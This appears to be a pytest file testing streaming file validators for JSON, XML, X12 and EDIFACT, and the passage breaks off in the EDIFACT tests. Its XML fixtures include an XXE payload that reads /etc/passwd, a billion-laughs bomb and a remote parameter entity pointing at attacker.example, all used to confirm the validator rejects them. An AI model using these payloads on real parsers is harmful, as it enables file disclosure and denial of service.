"""core.validators: specs, streaming checks, chunk-boundary independence, bounded memory."""

from __future__ import annotations

import hashlib
import io
import json
import random
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest

from core.validators import (
    EdifactValidator,
    JsonValidator,
    MaxSizeValidator,
    NameValidator,
    ValidationError,
    ValidationRun,
    Validator,
    X12Validator,
    XmlValidator,
    parse_cli_spec,
    parse_size,
    parse_specs,
    validate_stream,
    validator_types,
)

# --------------------------------------------------------------------------------------------
# helpers


def run(v: Validator, data: bytes, splits: list[int] | None = None, name: str = "file.dat") -> str | None:
    """Drive `v` over `data` cut at `splits`; the error message, or None if it passed."""
    try:
        v.start(name)
        prev = 0
        for cut in [*(splits or []), len(data)]:
            v.feed(data[prev:cut])
            prev = cut
        v.finish(len(data), hashlib.sha256(data).hexdigest())
    except ValidationError as exc:
        return str(exc)
    return None


def splittings(data: bytes, seed: int = 0) -> Iterator[list[int]]:
    """Whole, every two-piece cut, one byte at a time, and a few random cuts."""
    yield []
    for k in range(len(data) + 1):
        yield [k]
    yield list(range(1, len(data)))
    rnd = random.Random(seed)
    for _ in range(5 if len(data) > 1 else 0):
        yield sorted(rnd.sample(range(1, len(data)), min(len(data) - 1, rnd.randint(1, 12))))


def result_everywhere(v: Validator, data: bytes) -> str | None:
    """The result of `v` on `data`, asserting it is the same whatever the chunk boundaries."""
    expected = run(v, data)
    for cuts in splittings(data):
        assert run(v, data, cuts) == expected, f"cuts at {cuts}"
    return expected


def assert_valid(v: Validator, data: bytes) -> None:
    assert result_everywhere(v, data) is None


def assert_invalid(v: Validator, data: bytes, message: str) -> str:
    error = result_everywhere(v, data)
    assert error is not None, "expected a validation error"
    assert message in error, error
    return error


# --------------------------------------------------------------------------------------------
# specs


def test_validator_types() -> None:
    assert validator_types() == [
        "edifact",
        "json",
        "max_size",
        "min_size",
        "name",
        "sha256",
        "x12",
        "xml",
    ]


def test_parse_specs_builds_validators_and_round_trips() -> None:
    specs: list[dict[str, Any]] = [
        {"type": "max_size", "bytes": 1048576},
        {"type": "min_size", "bytes": 1},
        {"type": "name", "pattern": "*.json"},
        {"type": "name", "regex": r"PO_\d+\.x12", "ignore_case": True},
        {"type": "sha256", "value": "AB" * 32},
        {"type": "json"},
        {"type": "json", "max_depth": 64},
        {"type": "xml"},
        {"type": "x12"},
        {"type": "edifact"},
    ]
    validators = parse_specs(specs)
    assert [v.type for v in validators] == [s["type"] for s in specs]
    canonical = [v.to_spec() for v in validators]
    assert canonical[4] == {"type": "sha256", "value": "ab" * 32}
    assert parse_specs(canonical) == validators
    assert parse_specs([{"type": "max_size", "bytes": "1MiB"}])[0].to_spec() == {
        "type": "max_size",
        "bytes": 1048576,
    }
    assert parse_specs([]) == []


@pytest.mark.parametrize(
    ("specs", "message"),
    [
        ({"type": "json"}, "must be a list"),
        ("json", "must be a list"),
        (["json"], "validator 1: expected an object"),
        ([{"bytes": 1}], "validator 1: missing 'type'"),
        ([{"type": "json"}, {"type": "csv"}], "validator 2: unknown type 'csv'"),
        ([{"type": "max_size"}], "validator 1 (max_size): 'bytes' is required"),
        ([{"type": "max_size", "bytes": -1}], "must not be negative"),
        ([{"type": "max_size", "bytes": True}], "whole number of bytes"),
        ([{"type": "max_size", "bytes": 1.5}], "whole number of bytes"),
        ([{"type": "max_size", "bytes": "lots"}], "invalid size 'lots'"),
        ([{"type": "min_size", "byte": 1}], "unknown parameter 'byte'"),
        ([{"type": "name"}], "exactly one of 'pattern'"),
        ([{"type": "name", "pattern": "*.x", "regex": "x"}], "exactly one of 'pattern'"),
        ([{"type": "name", "pattern": ""}], "non-empty string"),
        ([{"type": "name", "pattern": 5}], "non-empty string"),
        ([{"type": "name", "regex": "("}], "invalid regex '('"),
        ([{"type": "name", "pattern": "*", "ignore_case": "yes"}], "'ignore_case' must be true or false"),
        ([{"type": "sha256"}], "'value' is required"),
        ([{"type": "sha256", "value": "abc"}], "64 hexadecimal digits"),
        ([{"type": "sha256", "value": "g" * 64}], "64 hexadecimal digits"),
        ([{"type": "json", "max_depth": 0}], "'max_depth' must be a positive integer"),
        ([{"type": "json", "strict": True}], "unknown parameter 'strict'"),
        ([{"type": "xml", "dtd": False}], "unknown parameter 'dtd' (expected: none)"),
    ],
)
def test_parse_specs_errors(specs: object, message: str) -> None:
    with pytest.raises(ValueError) as info:
        parse_specs(specs)  # type: ignore[arg-type]
    assert message in str(info.value)


@pytest.mark.parametrize(
    ("text", "spec"),
    [
        ("json", {"type": "json"}),
        ("JSON", {"type": "json"}),
        ("json=64", {"type": "json", "max_depth": 64}),
        ("xml", {"type": "xml"}),
        ("x12", {"type": "x12"}),
        ("edifact", {"type": "edifact"}),
        ("max_size=1MiB", {"type": "max_size", "bytes": 1048576}),
        ("max-size=10MB", {"type": "max_size", "bytes": 10_000_000}),
        ("min_size=1", {"type": "min_size", "bytes": 1}),
        ("name=*.csv", {"type": "name", "pattern": "*.csv"}),
        ("regex=^PO_\\d+=x$", {"type": "name", "regex": "^PO_\\d+=x$"}),
        ("sha256=" + "A" * 64, {"type": "sha256", "value": "A" * 64}),
    ],
)
def test_parse_cli_spec(text: str, spec: dict[str, object]) -> None:
    assert parse_cli_spec(text) == spec
    parse_specs([parse_cli_spec(text)])


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("csv", "unknown validator 'csv'"),
        ("max_size", "needs a value"),
        ("name=", "needs a value"),
        ("max_size=1XB", "invalid size '1XB'"),
        ("xml=1", "takes no value"),
        ("json=deep", "maximum nesting depth"),
        ("json=0", "'max_depth' must be a positive integer"),
        ("sha256=abc", "64 hexadecimal digits"),
        ("regex=(", "invalid regex"),
    ],
)
def test_parse_cli_spec_errors(text: str, message: str) -> None:
    with pytest.raises(ValueError) as info:
        parse_cli_spec(text)
    assert message in str(info.value)


@pytest.mark.parametrize(
    ("text", "size"),
    [
        ("0", 0),
        ("1024", 1024),
        ("1k", 1024),
        ("512KiB", 512 * 1024),
        ("1 MiB", 1024**2),
        ("1.5GiB", 3 * 1024**3 // 2),
        ("2GB", 2_000_000_000),
        ("1TiB", 1024**4),
        ("7b", 7),
    ],
)
def test_parse_size(text: str, size: int) -> None:
    assert parse_size(text) == size


@pytest.mark.parametrize("text", ["", "-1", "1.5", "0.1KiB", "1 PB", "MiB", "1e3"])
def test_parse_size_errors(text: str) -> None:
    with pytest.raises(ValueError):
        parse_size(text)


# --------------------------------------------------------------------------------------------
# size, name, checksum


def test_max_size() -> None:
    v = parse_specs([{"type": "max_size", "bytes": 1024}])[0]
    assert run(v, b"x" * 1024) is None
    assert run(v, b"x" * 2048, [1000]) == "max_size: at least 2048 bytes > limit 1024"
    v.start("f")
    with pytest.raises(ValidationError) as info:
        v.finish(2048, "")
    assert str(info.value) == "max_size: 2048 bytes > limit 1024"
    assert info.value.check == "max_size"
    assert info.value.reason == "2048 bytes > limit 1024"


def test_max_size_stops_reading_early() -> None:
    class Endless(io.RawIOBase):
        reads = 0

        def readable(self) -> bool:
            return True

        def readinto(self, buffer: bytearray | memoryview) -> int:  # type: ignore[override]
            self.reads += 1
            buffer[:] = b"x" * len(buffer)
            return len(buffer)

    stream = Endless()
    with pytest.raises(ValidationError, match=r"max_size: at least 2048 bytes > limit 1024"):
        validate_stream([{"type": "max_size", "bytes": 1024}], "f", stream, chunk_size=2048)  # type: ignore[arg-type]
    assert stream.reads == 1


def test_min_size() -> None:
    v = parse_specs([{"type": "min_size", "bytes": 1}])[0]
    assert run(v, b"x") is None
    assert run(v, b"") == "min_size: 0 bytes < minimum 1"


@pytest.mark.parametrize(
    ("spec", "name", "ok"),
    [
        ({"pattern": "*.json"}, "po.json", True),
        ({"pattern": "*.json"}, "upload/acme/po.json", True),
        ({"pattern": "*.json"}, "po.JSON", False),
        ({"pattern": "*.json", "ignore_case": True}, "po.JSON", True),
        ({"pattern": "*.json"}, "po.json.bak", False),
        ({"pattern": "PO_[0-9]*.x12"}, "PO_42.x12", True),
        ({"pattern": "upload/*.csv"}, "upload/a.csv", True),
        ({"pattern": "upload/*.csv"}, "a.csv", False),
        ({"regex": r"PO_\d+\.x12"}, "in/PO_42.x12", True),
        ({"regex": r"PO_\d+\.x12"}, "PO_42.x12.tmp", False),
        ({"regex": r"po_\d+\.x12", "ignore_case": True}, "PO_42.X12", True),
    ],
)
def test_name(spec: dict[str, object], name: str, ok: bool) -> None:
    v = parse_specs([{"type": "name", **spec}])[0]
    assert isinstance(v, NameValidator)
    assert v.matches(name) is ok
    error = run(v, b"", name=name)
    if ok:
        assert error is None
    else:
        assert error is not None and error.startswith(f"name: {name!r} does not match ")


def test_name_fails_at_start() -> None:
    v = parse_specs([{"type": "name", "pattern": "*.json"}])[0]
    with pytest.raises(ValidationError, match=r"name: 'po.xml' does not match pattern '\*.json'"):
        v.start("po.xml")


def test_sha256() -> None:
    data = b"hello"
    digest = hashlib.sha256(data).hexdigest()
    assert run(parse_specs([{"type": "sha256", "value": digest.upper()}])[0], data) is None
    error = run(parse_specs([{"type": "sha256", "value": "0" * 64}])[0], data)
    assert error == f"sha256: got {digest}, expected {'0' * 64}"


# --------------------------------------------------------------------------------------------
# running


def test_validate_stream_returns_size_and_sha256() -> None:
    data = json.dumps({"items": list(range(1000))}).encode()
    size, digest = validate_stream(
        [{"type": "json"}, {"type": "name", "pattern": "*.json"}, {"type": "min_size", "bytes": 1}],
        "in/data.json",
        io.BytesIO(data),
        chunk_size=7,
    )
    assert (size, digest) == (len(data), hashlib.sha256(data).hexdigest())


def test_validate_stream_without_validators_and_with_objects() -> None:
    assert validate_stream([], "x", io.BytesIO(b"")) == (0, hashlib.sha256(b"").hexdigest())
    validators = [JsonValidator(), MaxSizeValidator(10)]
    assert validate_stream(validators, "x", io.BytesIO(b"[1]"))[0] == 3
    with pytest.raises(ValidationError, match="json: line 1 column 4: Expecting ',' delimiter"):
        validate_stream(validators, "x", io.BytesIO(b"[1 2]"))
    with pytest.raises(ValueError, match="unknown type"):
        validate_stream([{"type": "nope"}], "x", io.BytesIO(b""))


def test_validation_run_tees() -> None:
    run_ = ValidationRun([{"type": "xml"}], "a.xml")
    out = io.BytesIO()
    for chunk in (b"<a>", b"<b/>", b"</a>"):
        run_.feed(chunk)
        out.write(chunk)
    size, digest = run_.finish()
    assert out.getvalue() == b"<a><b/></a>"
    assert (size, digest) == (11, hashlib.sha256(b"<a><b/></a>").hexdigest())


def test_validators_are_reusable() -> None:
    v = JsonValidator()
    assert run(v, b"[1,") is not None
    assert run(v, b"[1]") is None
    x = X12Validator()
    assert run(x, X12_850[:200]) is not None
    assert run(x, X12_850) is None


# --------------------------------------------------------------------------------------------
# JSON

JSON_VALID = [
    b"{}",
    b"[]",
    b"0",
    b"-0.5e+10",
    b"1E-2",
    b"true",
    b"null",
    b'""',
    b'"\\u00e9\\ud83d\\ude00 \\" \\\\ \\/ \\b\\f\\n\\r\\t"',
    '"ünïcødé ✓ 😀"'.encode(),
    b" \t\r\n[ 1 , 2 ]\n",
    b'{"a": [1, 2.5e-3, "x", true, false, null], "b": {"c": {}}, "d": [], "e": [[[]]]}',
    b'[{"id": 1, "tags": ["a", "b"]}, {"id": 2, "nested": {"deep": [1, {"x": null}]}}]',
    b'{"a":1,"a":2}',
    b'\xef\xbb\xbf{"bom": true}',
    b"[" + b"12345678901234567890" * 10 + b"]",
]


@pytest.mark.parametrize("data", JSON_VALID)
def test_json_valid(data: bytes) -> None:
    assert_valid(JsonValidator(), data)
    if not data.startswith(b"\xef\xbb\xbf"):
        json.loads(data)  # the samples are valid for the stdlib too


def reject_constant(name: str) -> None:
    raise ValueError(f"{name} is not JSON")


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "json: line 1 column 1: Expecting value (the document is empty)"),
        (b"   \n ", "json: line 2 column 2: Expecting value"),
        (b'{"a": 1,\n "b": 2\n "c": 3}', "json: line 3 column 2: Expecting ',' delimiter"),
        (b"[1,\n2,\n  3 4]", "json: line 3 column 5: Expecting ',' delimiter"),
        (b"[1,]", "json: line 1 column 4: Expecting value"),
        (b'{"a":1,}', "json: line 1 column 8: Expecting property name enclosed in double quotes"),
        (b"{'a': 1}", "json: line 1 column 2: Expecting property name enclosed in double quotes"),
        (b'{"a" 1}', "json: line 1 column 6: Expecting ':' delimiter"),
        (b"[1}", "json: line 1 column 3: Expecting ',' delimiter"),
        (b"[1] [2]", "json: line 1 column 5: Extra data"),
        (b"1 2", "json: line 1 column 3: Extra data"),
        (b"[01]", "json: line 1 column 2: Invalid number"),
        (b"[1.]", "json: line 1 column 2: Invalid number"),
        (b"[.5]", "json: line 1 column 2: Expecting value"),
        (b"[1e]", "json: line 1 column 2: Invalid number"),
        (b"[-]", "json: line 1 column 2: Invalid number"),
        (b"[+1]", "json: line 1 column 2: Expecting value"),
        (b"[0x10]", "json: line 1 column 3: Expecting ',' delimiter"),
        (b"[NaN]", "json: line 1 column 2: Expecting value"),
        (b"[tru]", "json: line 1 column 2: Expecting value"),
        (b"nul", "json: line 1 column 1: Expecting value"),
        (b'["a\\x"]', "json: line 1 column 4: Invalid \\escape"),
        (b'["\\u12G4"]', "json: line 1 column 3: Invalid \\uXXXX escape"),
        (b'["tab\there"]', "json: line 1 column 6: Invalid control character in string"),
        (b'"abc', "json: line 1 column 1: Unterminated string"),
        (b'[1, "a\\', "json: line 1 column 7: Invalid \\escape"),
        (b'{"a": [1, 2', "json: line 1 column 12: Unexpected end of document: unclosed array"),
        (b'{"a": ', "json: line 1 column 7: Unexpected end of document: unclosed object"),
        (b"[" + b"9" * 5000, "json: line 1 column 5002: Unexpected end of document: unclosed array"),
        (b"[" + b"9" * 5000 + b"x]", "json: line 1 column 5002: Expecting ',' delimiter"),
        (b"[0" + b"9" * 5000 + b"]", "json: line 1 column 2: Invalid number"),
    ],
)
def test_json_invalid(data: bytes, message: str) -> None:
    assert assert_invalid(JsonValidator(), data, message) == message
    with pytest.raises(ValueError):
        json.loads(data, parse_constant=reject_constant)  # the stdlib agrees (but for NaN)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b'["\xff"]', "json: invalid UTF-8 at byte 2: invalid start byte"),
        (b'["caf\xc3"]', "json: invalid UTF-8 at byte 5: invalid continuation byte"),
        (b'["caf\xc3', "json: invalid UTF-8 at byte 5: unexpected end of data"),
        (b'["\xc0\xaf"]', "json: invalid UTF-8 at byte 2: invalid start byte"),  # overlong "/"
        (b'["\xed\xa0\x80"]', "json: invalid UTF-8 at byte 2: invalid continuation byte"),  # surrogate
        (b"\xff\xfe[\x00]\x00", "json: invalid UTF-8 at byte 0: invalid start byte"),  # UTF-16
        # the first problem in document order wins, whatever the chunking
        (b'[1 2, "\xff"]', "json: line 1 column 4: Expecting ',' delimiter"),
    ],
)
def test_json_invalid_utf8(data: bytes, message: str) -> None:
    assert assert_invalid(JsonValidator(), data, message) == message


def test_json_depth_limit() -> None:
    assert_valid(JsonValidator(), b"[" * 512 + b"]" * 512)
    deep = b'{"a":' * 300 + b"[" * 213 + b"]" * 213 + b"}" * 300
    assert run(JsonValidator(), deep) == "json: line 1 column 1713: nesting deeper than 512 levels"
    assert run(JsonValidator(max_depth=1000), deep) is None
    assert run(JsonValidator(), b"[" * 100_000) == "json: line 1 column 513: nesting deeper than 512 levels"
    v = JsonValidator(max_depth=2)
    assert run(v, b"[[1, [2]]]") == "json: line 1 column 6: nesting deeper than 2 levels"
    assert run(v, b'[{"a": 1}, [2]]') is None
    assert run(v, b'{"a": {"b": []}}') == "json: line 1 column 13: nesting deeper than 2 levels"


def test_json_matches_stdlib_on_mutations() -> None:
    """Random edits of valid documents: accepted exactly when json.loads accepts them, and the
    verdict and message do not depend on where chunks end."""
    seeds = [s for s in JSON_VALID if not s.startswith(b"\xef\xbb\xbf")]
    alphabet = [*'{}[],:"\\ 0123456789.-+eEtruefalsn\n\tx', "é", "\x01"]
    rnd = random.Random(20240115)
    v = JsonValidator()
    for _ in range(1500):
        doc = bytearray(rnd.choice(seeds))
        for _ in range(rnd.randint(1, 3)):
            pos = rnd.randint(0, len(doc))
            roll = rnd.random()
            if roll < 0.4 and doc:
                del doc[min(pos, len(doc) - 1)]
            elif roll < 0.8:
                doc[pos:pos] = rnd.choice(alphabet).encode()
            else:
                start = rnd.randint(0, len(doc))
                doc[pos:pos] = doc[start : start + rnd.randint(1, 6)]
        data = bytes(doc)
        try:
            json.loads(data.decode("utf-8"), parse_constant=reject_constant)
            expected_ok = True
        except (UnicodeDecodeError, ValueError):
            expected_ok = False
        whole = run(v, data)
        assert (whole is None) == expected_ok, (data, whole)
        cuts = sorted(rnd.sample(range(1, len(data)), min(len(data) - 1, 4))) if len(data) > 1 else []
        assert run(v, data, cuts) == whole, (data, cuts)
        assert run(v, data, list(range(1, len(data)))) == whole, data


# --------------------------------------------------------------------------------------------
# XML

XML_VALID = [
    b"<a/>",
    b'<?xml version="1.0" encoding="UTF-8"?>\n<order id="1"><item sku="A&amp;B">2 &lt; 3</item></order>\n',
    b'<?xml version="1.0"?><p:po xmlns:p="urn:x"><p:line n="1"/><![CDATA[<raw>]]><!-- c --></p:po>',
    b'<?xml version="1.0" encoding="ISO-8859-1"?><name>caf\xe9</name>',
    b'<?xml version="1.0"?>\n<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">\n'
    b'<cXML payloadID="1@example.com" timestamp="2024-01-15T12:30:00Z"><Header/></cXML>',
    "<ü>ä ✓</ü>".encode(),
    b"\xef\xbb\xbf<a>bom</a>",
]


@pytest.mark.parametrize("data", XML_VALID)
def test_xml_valid(data: bytes) -> None:
    assert_valid(XmlValidator(), data)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "xml: line 1 column 1: no element found"),
        (b"<a><b></a>", "xml: line 1 column 9: mismatched tag"),
        (b"<a>\n  <b>\n</a>", "xml: line 3 column 3: mismatched tag"),
        (b"<a></a><b/>", "xml: line 1 column 8: junk after document element"),
        (b"<a>", "xml: line 1 column 4: no element found"),
        (b'<a x="1" x="2"/>', "xml: line 1 column 10: duplicate attribute"),
        (b"<p:a/>", "xml: line 1 column 1: unbound prefix"),
        (b"<a>\xff</a>", "xml: line 1 column 4: not well-formed (invalid token)"),
        (b"<a>&nope;</a>", "xml: line 1 column 4: undefined entity"),
        (b"not xml", "xml: line 1 column 1: syntax error"),
    ],
)
def test_xml_invalid(data: bytes, message: str) -> None:
    assert assert_invalid(XmlValidator(), data, message) == message


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<foo>&xxe;</foo>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<foo/>
"""

UNPARSED_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!NOTATION gif SYSTEM "image/gif"> <!ENTITY logo SYSTEM "logo.gif" NDATA gif> ]>
<foo/>
"""


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (XXE, "entity declaration &xxe; not allowed"),
        (BILLION_LAUGHS, "entity declaration &lol; not allowed"),
        (PARAMETER_ENTITY, "entity declaration %remote; not allowed"),
        (UNPARSED_ENTITY, "entity declaration"),
    ],
)
def test_xml_refuses_entity_declarations(data: bytes, message: str) -> None:
    error = assert_invalid(XmlValidator(), data, message)
    assert error.startswith("xml: line ")


# --------------------------------------------------------------------------------------------
# X12


def isa(control: str = "000000001", sep: str = "*", comp: str = ">", term: str = "~") -> str:
    fields = [
        "ISA",
        "00",
        " " * 10,
        "00",
        " " * 10,
        "ZZ",
        "SENDERID".ljust(15),
        "ZZ",
        "RECEIVERID".ljust(15),
        "240115",
        "1230",
        "U",
        "00401",
        control,
        "0",
        "P",
        comp,
    ]
    header = sep.join(fields) + term
    assert len(header) == 106
    return header


PO_850 = """\
ST*850*0001~
BEG*00*SA*PO-4500012345**20240115~
CUR*BY*USD~
REF*DP*038~
PER*BD*JANE BUYER*TE*5555550100~
DTM*002*20240201~
N1*ST*ACME DISTRIBUTION CENTER*92*0001~
N3*100 INDUSTRIAL PKWY~
N4*SPRINGFIELD*IL*62701*US~
PO1*1*120*EA*9.25**VP*WID-BLUE-01*UP*012345678905~
PID*F****WIDGET, BLUE, 10 CM~
PO1*2*48*CA*40.00**VP*GAD-RED-02*UP*012345678912~
PID*F****GADGET, RED~
CTT*2*168~
SE*15*0001~
"""
X12_850 = (
    isa() + "\nGS*PO*SENDERID*RECEIVERID*20240115*1230*1*X*004010~\n" + PO_850 + "GE*1*1~\nIEA*1*000000001~\n"
).encode()


def test_x12_850_purchase_order() -> None:
    assert_valid(X12Validator(), X12_850)
    assert validate_stream([{"type": "x12"}], "po.x12", io.BytesIO(X12_850))[0] == len(X12_850)


def test_x12_variants() -> None:
    v = X12Validator()
    # no line breaks, CRLF line breaks
    assert_valid(v, X12_850.replace(b"\n", b""))
    assert_valid(v, X12_850.replace(b"\n", b"\r\n"))
    # other delimiters, newline as the segment terminator
    other = X12_850.replace(b"\n", b"").replace(b"*", b"|").replace(b">", b"^").replace(b"~", b"\n")
    assert other[3:4] == b"|" and other[104:106] == b"^\n"
    assert_valid(v, other)
    # two transaction sets in one group, two groups, two interchanges
    two_sets = X12_850.replace(b"SE*15*0001~\n", b"SE*15*0001~\n" + PO_850.replace("0001", "0002").encode())
    assert_valid(v, two_sets.replace(b"GE*1*1~", b"GE*2*1~"))
    group2 = b"GS*PO*SENDERID*RECEIVERID*20240115*1230*2*X*004010~\n" + PO_850.encode() + b"GE*1*2~\n"
    two_groups = X12_850.replace(b"IEA*1*", group2 + b"IEA*2*")
    assert_valid(v, two_groups)
    second = X12_850.replace(b"000000001", b"000000002")
    assert_valid(v, X12_850 + b"\n" + second)
    # an interchange acknowledgment between ISA and GS, and an interchange holding only a TA1
    assert_valid(v, X12_850.replace(b"\nGS*", b"\nTA1*000000009*240115*1230*A*000~\nGS*"))
    ta1_only = (isa() + "TA1*000000009*240115*1230*A*000~IEA*0*000000001~").encode()
    assert_valid(v, ta1_only)
    # a UTF-8 BOM and leading blank lines
    assert_valid(v, b"\xef\xbb\xbf\r\n" + X12_850)


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (b"SE*15*0001", b"SE*14*0001", "x12: segment 17 (SE): SE01 segment count '14' does not match 15"),
        (b"SE*15*0001", b"SE*15*0002", "SE02 '0002' does not match ST02 control number '0001'"),
        (b"SE*15*0001", b"SE*XV*0001", "SE01 segment count 'XV' does not match 15"),
        (b"GE*1*1", b"GE*2*1", "x12: segment 18 (GE): GE01 transaction set count '2' does not match 1"),
        (b"GE*1*1", b"GE*1*7", "GE02 '7' does not match GS06 control number '1'"),
        (b"IEA*1*", b"IEA*3*", "x12: segment 19 (IEA): IEA01 group count '3' does not match 1 GS"),
        (b"IEA*1*000000001", b"IEA*1*000000002", "IEA02 '000000002' does not match ISA13"),
        (b"IEA*1*000000001~\n", b"", "x12: unexpected end of file: IEA missing"),
        (b"SE*15*0001~\nGE*1*1~\nIEA*1*000000001~\n", b"", "unexpected end of file: SE missing"),
        (b"IEA*1*000000001~\n", b"IEA*1*000000001", "segment has no terminator"),
        (b"ISA*00*          *", b"ISA*00*         *", "ISA must be 106 characters"),
        (b"ISA*00*          *", b"ISA*00*    *     *", "element separator '*' inside an ISA element"),
        (b"*000000001*0*P*>~", b"*00000000X*0*P*>~", "ISA13 control number '00000000X' must be 9 digits"),
        (b"*0*P*>~", b"*0*P*>*", "separators in ISA"),
        (b"ISA", b"XSA", "x12: segment 1: expected ISA at the start, found 'XSA'"),
        (b"GE*1*1~", b"GE*1*1~\nREF*DP*1~", "segment 19 (REF): segment outside an ST/SE transaction set"),
        (b"CTT*2*168~", b"ST*850*0002~", "segment 16 (ST): ST before SE"),
        (b"CUR*BY*USD~", b"cur*BY*USD~", "x12: segment 5: invalid segment id 'cur*BY*USD'"),
        (b"CUR*BY*USD~", b"~", "x12: segment 5: invalid segment id ''"),
        (b"GE*1*1~\n", b"", "segment 18 (IEA): IEA before GE"),
        (b"IEA*1*000000001~\n", b"IEA*1*000000001~\nGS*", "segment 20: expected ISA after IEA"),
        (b"IEA*1*000000001~\n", b"ISA*00*~", "x12: segment 19 (ISA): ISA inside an interchange"),
    ],
)
def test_x12_invalid(old: bytes, new: bytes, message: str) -> None:
    assert old in X12_850
    assert_invalid(X12Validator(), X12_850.replace(old, new, 1), message)


def test_x12_empty_and_truncated() -> None:
    v = X12Validator()
    assert run(v, b"") == "x12: no ISA interchange found (the file is empty)"
    assert run(v, b" \r\n") == "x12: no ISA interchange found (the file is empty)"
    assert_invalid(v, X12_850[:50], "x12: segment 1 (ISA): truncated ISA header (50 of 106 characters)")
    assert_invalid(v, b'{"not": "x12"}', "expected ISA at the start")


def test_x12_segment_without_terminator_is_bounded() -> None:
    v = X12Validator()
    v.start("big.x12")
    v.feed(X12_850[:200])
    with pytest.raises(ValidationError, match="segment longer than"):
        for _ in range(3):
            v.feed(b"X" * (1024 * 1024))


# --------------------------------------------------------------------------------------------
# EDIFACT

ORDERS = b"""UNA:+.? '
UNB+UNOC:3+5412345678908:14+8798765432106:14+240115:1230+00000000000778++ORDERS'
UNH+ME000001+ORDERS:D:96A:UN:EAN008'
BGM+220+PO-12345+9'
DTM+137:20240115:102'
DTM+2:20240201:102'
FTX+AAI+++Deliver to O?'Hare dock 4?: call ?+1 555 0100 ??'
NAD+BY+5412345678908::9'
NAD+SU+8798765432106::9'
CUX+2:EUR:9'
LIN+1++4000862141404:SRS'
QTY+21:48'
PRI+AAA:12?.50'
LIN+2++4000862141411:SRS'
QTY+21:12'
UNS+S'
CNT+2:2'
UNT+16+ME000001'
UNZ+1+00000000000778'
"""


def test_edifact_orders() -> None:
    assert_valid(EdifactValidator(), ORDERS)


def test_edifact_variants() -> None:
    v = EdifactValidator()
    assert_valid(v, ORDERS.replace(b"\n", b""))
    assert_valid(v, ORDERS.replace(b"\n", b"\r\n"))
    # without UNA: the default delimiters apply
    assert_valid(v, ORDERS.split(b"\n", 1)[1])
    # custom delimiters announced by UNA
    custom = ORDERS.translate(bytes.maketrans(b":+?'", b"^|\\~"))
    assert custom.startswith(b"UNA^|.\\ ~")
    assert_valid(v, custom)
    # two messages, in groups, two interchanges
    message2 = ORDERS[ORDERS.index(b"UNH") : ORDERS.index(b"UNZ")].replace(b"ME000001", b"ME000002")
    two = ORDERS.replace(b"UNZ+1+", message2 + b"UNZ+2+")
    assert_valid(v, two)
    grouped = two.replace(
        b"UNH+ME000001", b"UNG+ORDERS+5412345678908+8798765432106+240115:1230+42+UN+D:96A'\nUNH+ME000001"
    ).replace(b"UNZ+2+", b"UNE+2+42'\nUNZ+1+")
    assert_valid(v, grouped)
    assert_valid(v, ORDERS + ORDERS.replace(b"00000000000778", b"00000000000779"))
    # syntax level B: information separators, no UNA
    level_b = ORDERS.split(b"\n", 1)[1].replace(b"??", b"").replace(b"?'", b"").replace(b"?", b"")
    level_b = level_b.translate(bytes.maketrans(b":+'", b"\x1f\x1d\x1c")).replace(b"UNOC", b"UNOB")
    assert_valid(v, level_b)


def test_edifact_release_character_matters() -> None:
    # Without honouring "?'" the FTX segment would end after "O" and "Hare ..." would follow.
    ignoring_release = ORDERS.replace(b"UNA:+.? '", b"UNA:+.  '")
    assert_invalid(
        EdifactValidator(), ignoring_release, "edifact: segment 8: invalid segment tag 'Hare dock 4?: call ?'"
    )
    # "??" is a released release character: the following "'" ends the segment.
    extra = ORDERS.replace(b"FTX+AAI+++", b"FTX+AAI+++??'FTX+AAI+++").replace(b"UNT+16+", b"UNT+17+")
    assert_valid(EdifactValidator(), extra)


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (b"UNT+16+", b"UNT+15+", "edifact: segment 18 (UNT): UNT01 segment count '15' does not match 16"),
        (b"UNT+16+ME000001", b"UNT+16+ME000009", "UNT02 'ME000009' does not match UNH01 'ME000001'"),
        (
            b"UNZ+1+",
            b"UNZ+2+",
            "edifact: segment 19 (UNZ): UNZ01 control count '2' does not match 1 messages",
        ),
        (b"UNZ+1+00000000000778", b"UNZ+1+1", "UNZ02 '1' does not match UNB05 '00000000000778'"),
        (b"UNZ+1+00000000000778'\n", b"", "edifact: unexpected end of file: UNZ missing"),
        (b"UNT+16+ME000001'\nUNZ+1+00000000000778'\n", b"", "unexpected end of file: UNT missing"),
        (b"UNZ+1+00000000000778'\n", b"UNZ+1+00000000000778", "segment has no terminator"),
        (b"UNZ+1+", b"CNT+1'\nUNZ+1+", "segment 19 (CNT): segment outside a UNH/UNT message"),
        (b"UNZ+1+", b"UNB+UNOC:3+A+B+240115:1230+1'\nUNZ+1+", "UNB inside an interchange"),
        (b"UNS+S'", b"UNH+2+ORDERS:D:96A:UN'", "segment 16 (UNH): UNH before UNT"),
        (b"UNH+ME000001+ORDERS:D:96A:UN:EAN008'", b"UNH+ME000001'", "UNH02 message identifier is missing"),
        (b"UNB+", b"XYZ+", "edifact: segment 2 (XYZ): expected UNB"),
